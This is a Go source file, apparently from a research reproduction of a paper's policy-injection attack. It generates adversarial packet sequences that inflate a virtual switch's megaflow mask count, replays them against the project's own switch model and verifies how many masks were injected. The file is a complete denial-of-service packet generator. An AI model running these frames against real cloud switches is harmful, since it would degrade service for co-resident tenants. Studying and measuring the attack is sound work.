package attack

import (
	"encoding/binary"
	"fmt"
	"net/netip"

	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/pkt"
)

// Keys generates the adversarial packet sequence as flow keys: exactly one
// key per divergence-depth combination. For the combination (d₁, …, d_k),
// field i carries the whitelisted value with bit d_i−1 flipped — it agrees
// with the whitelist on the first d_i−1 bits and diverges at bit d_i, so
// the trie gate for field i examines exactly d_i bits. The union of those
// per-field prefixes is a megaflow mask unique to the combination.
//
// Every key is a distinct microflow, so the sequence also churns the
// exact-match cache as a side effect, as the paper observes.
func (a *Attack) Keys() ([]flow.Key, error) {
	if err := a.Validate(); err != nil {
		return nil, err
	}
	template := a.template()
	n := a.PredictedMasks()
	out := make([]flow.Key, 0, n)
	depths := make([]int, len(a.Fields)) // 0-based: depth d means flip bit d
	for more := true; more; more = a.nextDepths(depths) {
		k := template
		for i, t := range a.Fields {
			k.Set(t.Field, t.value(depths[i]))
		}
		out = append(out, k)
	}
	if len(out) != n {
		return nil, fmt.Errorf("attack: generated %d keys, predicted %d", len(out), n)
	}
	return out, nil
}

// Frames generates the covert stream as wire frames: Keys rendered
// through the packet builder, in the same order. The template frame is
// built once; each combination copies it into one shared backing array
// (each frame a capacity-limited slice of it) and patches the attacked
// fields and the checksums they feed. The frames are what the
// orchestrator replays at 1–2 Mbps.
func (a *Attack) Frames() ([][]byte, error) {
	if err := a.Validate(); err != nil {
		return nil, err
	}
	template := a.template()
	_, _, _, flen := a.defaults()
	tf, err := pkt.BuildTuple(template.Tuple(), flen)
	if err != nil {
		return nil, fmt.Errorf("attack: building covert frame: %w", err)
	}
	lay := layoutOf(template, tf)
	n, size := a.PredictedMasks(), len(tf)
	buf := make([]byte, n*size)
	out := make([][]byte, 0, n)
	depths := make([]int, len(a.Fields))
	for more := true; more; more = a.nextDepths(depths) {
		at := len(out) * size
		f := buf[at : at+size : at+size]
		copy(f, tf)
		for i, t := range a.Fields {
			lay.put(f, t.Field, t.value(depths[i]))
		}
		lay.seal(f)
		out = append(out, f)
	}
	return out, nil
}

// template is the key every covert packet shares before its attacked
// fields are set.
func (a *Attack) template() flow.Key {
	src, dst, proto, _ := a.defaults()
	if a.v6Targeted() {
		// The covert stream must be IPv6 so the whitelist subtables'
		// eth_type matches; default template addresses are v4-mapped
		// otherwise.
		src = netip.MustParseAddr("2001:db8:ffff::66")
		dst = netip.MustParseAddr("2001:db8:ffff::2")
		if a.SrcIP.IsValid() {
			src = a.SrcIP
		}
		if a.DstIP.IsValid() {
			dst = a.DstIP
		}
	}
	return flow.FiveTuple{
		Src: src, Dst: dst, Proto: proto,
		SrcPort: 40000, DstPort: 53211,
	}.Key(0)
}

// value is t's value at divergence depth d: the whitelisted value with
// bit d, counted from the top, flipped.
func (t TargetField) value(d int) uint64 {
	return t.Allow ^ 1<<uint(t.Field.Bits()-1-d)
}

// nextDepths advances depths, an odometer over the fields' widths, to the
// next combination, reporting false once every combination is done.
func (a *Attack) nextDepths(depths []int) bool {
	for i := range depths {
		depths[i]++
		if depths[i] < a.Fields[i].width() {
			return true
		}
		depths[i] = 0
	}
	return false
}

// frameLayout locates in a covert frame what the attacked fields change:
// the fields themselves and the checksums over them. It reads the
// template frame pkt.BuildTuple renders — untagged Ethernet, an
// option-free IP header — whose packet may end before the padding.
type frameLayout struct {
	v4    bool
	proto uint8
	l4    int // start of the transport header
	end   int // end of the IP packet, before any padding
}

func layoutOf(template flow.Key, tf []byte) frameLayout {
	l3 := tf[pkt.EthHeaderLen:]
	lay := frameLayout{
		v4:    template.Get(flow.FieldEthType) == flow.EthTypeIPv4,
		proto: uint8(template.Get(flow.FieldIPProto)),
	}
	if lay.v4 {
		lay.l4 = pkt.EthHeaderLen + pkt.IPv4HeaderLen
		lay.end = pkt.EthHeaderLen + int(binary.BigEndian.Uint16(l3[2:4]))
	} else {
		lay.l4 = pkt.EthHeaderLen + pkt.IPv6HeaderLen
		lay.end = lay.l4 + int(binary.BigEndian.Uint16(l3[4:6]))
	}
	return lay
}

// put writes field's value v where the builder renders it; a field the
// frame's family does not carry (an IPv4 address in an IPv6 frame) is not
// on the wire, as in Key.Tuple.
func (lay frameLayout) put(f []byte, field flow.FieldID, v uint64) {
	l3, l4 := f[pkt.EthHeaderLen:], f[lay.l4:]
	icmp := lay.proto == pkt.ProtoICMP || lay.proto == pkt.ProtoICMPv6
	switch {
	case field == flow.FieldIPSrc && lay.v4:
		binary.BigEndian.PutUint32(l3[12:16], uint32(v))
	case field == flow.FieldIPDst && lay.v4:
		binary.BigEndian.PutUint32(l3[16:20], uint32(v))
	case field == flow.FieldIPv6SrcHi && !lay.v4:
		binary.BigEndian.PutUint64(l3[8:16], v)
	case field == flow.FieldIPv6DstHi && !lay.v4:
		binary.BigEndian.PutUint64(l3[24:32], v)
	case field == flow.FieldTPSrc && icmp:
		l4[0] = byte(v) // ICMP type
	case field == flow.FieldTPDst && icmp:
		l4[1] = byte(v) // ICMP code
	case field == flow.FieldTPSrc:
		binary.BigEndian.PutUint16(l4[0:2], uint16(v))
	case field == flow.FieldTPDst:
		binary.BigEndian.PutUint16(l4[2:4], uint16(v))
	}
}

// seal recomputes the IPv4 header checksum and the transport checksum of
// a patched frame, as the builder computes them.
func (lay frameLayout) seal(f []byte) {
	l3, l4 := f[pkt.EthHeaderLen:lay.end], f[lay.l4:lay.end]
	var src, dst []byte
	if lay.v4 {
		hdr := l3[:pkt.IPv4HeaderLen]
		hdr[10], hdr[11] = 0, 0
		binary.BigEndian.PutUint16(hdr[10:12], pkt.Checksum(hdr))
		src, dst = l3[12:16], l3[16:20]
	} else {
		src, dst = l3[8:24], l3[24:40]
	}
	at := 2 // ICMP, ICMPv6
	switch lay.proto {
	case pkt.ProtoTCP:
		at = 16
	case pkt.ProtoUDP:
		at = 6
	}
	l4[at], l4[at+1] = 0, 0
	var ck uint16
	if lay.proto == pkt.ProtoICMP {
		ck = pkt.Checksum(l4)
	} else {
		ck = pkt.PseudoChecksum(src, dst, lay.proto, l4)
	}
	if ck == 0 && lay.proto == pkt.ProtoUDP {
		ck = 0xffff // RFC 768: a transmitted zero means "no checksum"
	}
	binary.BigEndian.PutUint16(l4[at:at+2], ck)
}

// Verification is the outcome of replaying the covert stream against a
// switch.
type Verification struct {
	Predicted int // masks the plan promised
	Injected  int // distinct masks in the megaflow cache afterwards
	Entries   int // megaflow entries afterwards
	Denied    int // covert packets denied (expected: all of them)
}

// Achieved reports whether the cache reached at least 90% of the
// predicted mask count. The tolerance is not slack in the attack: the
// prediction assumes a pristine classifier, while co-resident tenants'
// whitelists share the per-field tries and perturb a few divergence
// depths, merging a handful of combinations (measured ~3% for a /24
// victim whitelist).
func (v Verification) Achieved() bool { return v.Injected*10 >= v.Predicted*9 }

func (v Verification) String() string {
	return fmt.Sprintf("masks: %d injected / %d predicted; %d entries; %d covert packets denied",
		v.Injected, v.Predicted, v.Entries, v.Denied)
}

// burstLen is the NIC-sized burst the covert stream is replayed in.
const burstLen = 32

// ExecuteFrames replays the covert sequence once against sw at logical
// time now, as raw frame bursts through the switch's frame-first ingress
// at inPort — exactly what an attacker's NIC delivers — and reports what
// the cache looks like afterwards. Bursts are NIC-sized (32 frames), so
// the replay exercises the same vectorized extract + tier walk the victim
// measurement does. The attack ACL must already be installed (via the CMS
// or directly); ExecuteFrames only sends packets, as a tenant could.
func (a *Attack) ExecuteFrames(sw *dataplane.Switch, now uint64, inPort uint32) (Verification, error) {
	frames, err := a.Frames()
	if err != nil {
		return Verification{}, err
	}
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	denied := 0
	for start := 0; start < len(frames); start += burstLen {
		fb.Reset()
		for _, f := range frames[start:min(start+burstLen, len(frames))] {
			fb.Append(f, inPort)
		}
		out = sw.ProcessFrames(now, &fb, out)
		for _, d := range out[:fb.Len()] {
			if d.Verdict.Verdict == 0 { // flowtable.Deny
				denied++
			}
		}
	}
	return a.verification(sw, denied), nil
}

// verification snapshots the cache after a replay. Injected is the
// absolute mask population: pre-existing victim megaflows can share a
// mask shape with one of the covert combinations, so a delta would
// under-count.
func (a *Attack) verification(sw *dataplane.Switch, denied int) Verification {
	return Verification{
		Predicted: a.PredictedMasks(),
		Injected:  sw.Megaflow().NumMasks(),
		Entries:   sw.Megaflow().Len(),
		Denied:    denied,
	}
}
